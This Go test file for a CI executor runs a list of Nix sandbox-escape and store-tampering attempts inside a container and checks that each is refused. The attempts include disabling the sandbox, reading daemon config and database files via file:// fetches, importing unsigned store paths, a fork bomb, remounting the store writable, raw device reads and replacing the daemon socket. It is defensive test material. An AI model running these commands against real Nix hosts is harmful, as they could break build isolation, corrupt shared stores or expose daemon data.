package container_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gitlab.com/skerry/skerry/internal/executor/container/enginetest"
)

// attackImage is a busybox with what hostile jobs bring.
const attackImage = "skerry.test/nixattack:latest"

// loadAttack gives the image to all engines.
func loadAttack(t *testing.T) {
	t.Helper()
	enginetest.NixBases(t)
	if enginetest.Again() || len(enginetest.All()) == 0 {
		return
	}
	program := filepath.Join(t.TempDir(), "attacker")
	build := exec.CommandContext(t.Context(), "go", "build", "-trimpath", "-buildvcs=false", "-o", program, "gitlab.com/skerry/skerry/internal/nixstore/nixtest/attacker")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	raw, err := os.ReadFile(program)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		"/bin/attacker": string(raw),
		// Runs the attacks that are named, some side by side, and tells what each says.
		"/attack/run": `mkdir /tmp/said
			echo "$@" | tr ' ' '\n' | xargs -n 1 -P 4 sh -c 'sh /attack/lines/$0 > /tmp/said/$0 2>&1 < /dev/null'
			for a in "$@"; do echo "=== $a"; cat /tmp/said/$a; done`,
		// What a build sees; with box it is a path of the store. Its other arguments are attributes that are to open the sandbox.
		"/attack/look.nix": `{ box, name, noChroot ? false, host ? [ ], features ? [ ] }: derivation {
			inherit name; __noChroot = noChroot; __impureHostDeps = host; requiredSystemFeatures = features;
			system = builtins.currentSystem; builder = "${builtins.storePath box}/busybox";
			args = [ "sh" "-c" "{ echo root: $($builder ls -a /); $builder cat /proc/net/dev; echo user $($builder id -u); } > $out" ];
		}`,
		// A build with the daemon's network looks for the daemon.
		"/attack/search.nix": `{ attacker }: derivation {
			name = "search"; system = builtins.currentSystem; builder = builtins.storePath attacker; args = [ "search" ];
			outputHashMode = "flat"; outputHashAlgo = "sha256"; outputHash = "0000000000000000000000000000000000000000000000000000000000000000";
		}`,
		// Nix's own builder fetches what is on the daemon's machine: had it been read, its hash would be wrong.
		"/attack/fetch.nix": `{ url }: derivation {
			name = "fetch"; system = "builtin"; builder = "builtin:fetchurl"; inherit url; urls = [ url ]; unpack = false; executable = false;
			outputHashMode = "flat"; outputHashAlgo = "sha256"; outputHash = "0000000000000000000000000000000000000000000000000000000000000000";
		}`,
		// As many processes as a build can have.
		"/attack/fork.nix": `{ box }: derivation {
			name = "fork"; system = builtins.currentSystem; builder = "${builtins.storePath box}/busybox";
			args = [ "sh" "-c" "(while $builder sleep 1000 & do :; done); exec $builder sleep 1000" ];
		}`,
	}
	for name, a := range attacks() {
		files["/attack/lines/"+name] = a.line
	}
	for _, e := range enginetest.All() {
		e.Load(t, enginetest.Image{Name: attackImage, Files: files})
	}
}

const (
	evil   = "/nix/store/11111111111111111111111111111111-evil"
	socket = "/nix/var/nix/daemon-socket/socket"
)

// attack is something that root in a job tries by a shell's lines.
type attack struct {
	line string
	want string   // in what it says
	not  []string // in what it says
	deep bool     // tried with one trust setting only: the others try the same in another way
}

// fails says why what an attack says is not what it should be; empty: it is.
func (a attack) fails(said string) string {
	if !strings.Contains(said, a.want) {
		return "lacks " + a.want
	}
	for _, not := range a.not {
		if strings.Contains(said, not) {
			return "has " + not
		}
	}
	return ""
}

// attacks are all that is tried. $box is a busybox in the store, $victim a path that another job of the domain has built,
// $foreign are some of other domains, $lure is a server of the test.
func attacks() map[string]attack {
	const look = "cat $(nix-build --no-out-link /attack/look.nix --argstr box $box --argstr name "
	const hooks = "--option post-build-hook /bin/attacker --option pre-build-hook /bin/attacker --option build-hook /bin/attacker " +
		"--option diff-hook /bin/attacker --option run-diff-hook true "
	const open = "--option sandbox false --option sandbox-paths / --option extra-sandbox-paths /.skerry --option sandbox-fallback true " +
		"--option build-users-group '' --option allowed-impure-host-deps / --option filter-syscalls false --option allow-new-privileges true "
	inside := []string{".skerry", "eth0", "user 0"}
	return map[string]attack{
		"trusted":              {line: whomItTrusts, want: "trusted: 0"},
		"sandbox-all":          {line: "export NIX_CONFIG='sandbox = false'; echo 'sandbox = false' >> /etc/nix/nix.conf; " + look + "all " + open + hooks + ")", want: "root: ", not: inside},
		"sandbox-by-option":    {line: look + "option " + open + ")", want: "root: ", not: inside, deep: true},
		"sandbox-by-variable":  {line: "export NIX_CONFIG='sandbox = false'; " + look + "variable)", want: "root: ", not: inside, deep: true},
		"sandbox-by-attribute": {line: look + "attribute --arg noChroot true --option sandbox relaxed)", want: "__noChroot"},
		"sandbox-by-paths": {
			line: look + "paths --arg host '[ \"/.skerry\" ]' --option allowed-impure-host-deps /.skerry)", want: "impure path", deep: true,
		},
		"sandbox-by-features": {
			line: look + "features --arg features '[ \"recursive-nix\" \"uid-range\" ]' --option system-features 'recursive-nix uid-range')",
			want: "recursive-nix", not: []string{"root: "}, deep: true,
		},
		"hooks": {line: look + "hooks " + hooks + ")", want: "'post-build-hook' has no effect", deep: true},
		"fetch-files": {
			line: "for u in file:///etc/nix/nix.conf file:///nix/var/nix/db/db.sqlite file:///.skerry/nix/daemon/socket; do nix-build --no-out-link /attack/fetch.nix --argstr url $u; done",
			want: "unable to download", not: []string{"hash mismatch"}, deep: true,
		},
		"substituter": {
			line: "nix-store --realise " + evil + " --option substituters http://$lure --option trusted-substituters http://$lure --option require-sigs false --option trusted-public-keys ''",
			want: "untrusted substituter",
		},
		"unsigned-copy": {
			line: "attacker cache /tmp/cache " + evil + " && nix copy --no-check-sigs --from file:///tmp/cache " + evil, want: "lacks a signature", deep: true,
		},
		"unsigned-import": {line: "attacker export " + evil + " | nix-store --import", want: "lacks a signature", deep: true},
		"unsigned-force":  {line: "attacker force " + evil + " " + socket, want: "true AddToStoreNar says: <nil>", not: []string{"forced: true"}},
		"forbidden":       {line: "attacker forbidden $victim " + socket, want: "Skerry itself collects", not: []string{"allowed:"}},
		"collect":         {line: "nix-store --gc", want: "Skerry itself collects"},
		"collect-profile": {line: "nix-collect-garbage -d", want: "Skerry itself collects", deep: true},
		"collect-new":     {line: "nix store gc", want: "Skerry itself collects", deep: true},
		"delete":          {line: "nix-store --delete --ignore-liveness $victim; nix store delete $victim", want: "Skerry itself collects", deep: true},
		"repair":          {line: "nix-store --repair-path $victim; nix store repair $victim", want: "not supported", deep: true},
		"repair-all":      {line: "nix-store --verify --check-contents --repair", want: "refuses", deep: true},
		"repair-by-build": {line: "nix-store --realise --repair $victim", want: "refuses", deep: true},
		"optimise":        {line: "nix-store --optimise; nix store optimise", want: "refuses", deep: true},
		"roots-of-others": {line: "nix-store --gc --print-roots; echo done", want: "done", not: []string{"skerry/"}},
		"write":           {line: "touch /nix/store/mine; rm -rf $victim; echo no > $victim; chmod 777 $victim; cat $victim", want: "victim"},
		"write-mounted": {
			line: "mount -o remount,rw /nix/store; mount --bind /nix/store /mnt -o rw; umount -l /nix/store; unshare -m mount -o remount,rw,bind /nix/store; " +
				"unshare -Urm sh -c 'mount -o remount,rw,bind /nix/store; touch /nix/store/mine'; touch /nix/store/mine; ls /nix/store/mine",
			want: "/nix/store/mine: No such file",
		},
		"write-by-device": {
			line: "d=$(mountpoint -d /nix/store); mknod /tmp/disk b ${d%:*} ${d#*:}; head -c 512 /tmp/disk | wc -c", want: "0", not: []string{"512"},
		},
		"write-by-handle": {line: "attacker handle /nix/store; echo tried", want: "tried", not: []string{"opened"}},
		"socket-replaced": {
			line: "d=${s%/*}; { rm -f $s; mv $s $d/other; ln -s /tmp $d/link; ln $s $d/hard; mknod $d/node p; cp /bin/attacker $s; umount -l $d; mount -o remount,rw $d; } 2>/dev/null; ls -A $d",
			want: "socket", not: []string{"other", "link\n", "hard\n", "node\n"},
		},
		"daemons-socket":           {line: "attacker search", want: "looked at", not: []string{"found"}},
		"daemons-socket-by-builds": {line: "nix-build --no-out-link /attack/search.nix --argstr attacker $(nix-store --add /bin/attacker)", want: "looked at", not: []string{"found"}},
		"another-domain": {
			line: `nix-store --realise ${foreign%% *}; for p in $foreign; do test -e $p && echo reached $p; done; test "$(nix-store --check-validity --print-invalid $foreign | sort)" = "$(echo $foreign | tr ' ' '\n' | sort)" && echo none of mine`,
			want: "none of mine", not: []string{"reached"},
		},
		"malformed":      {line: "attacker garbage 30 " + socket + " && nix-store --check-validity $victim && echo serves", want: "serves"},
		"malformed-more": {line: "attacker garbage 200 " + socket + " && nix-store --check-validity $victim && echo serves", want: "serves", deep: true},
	}
}
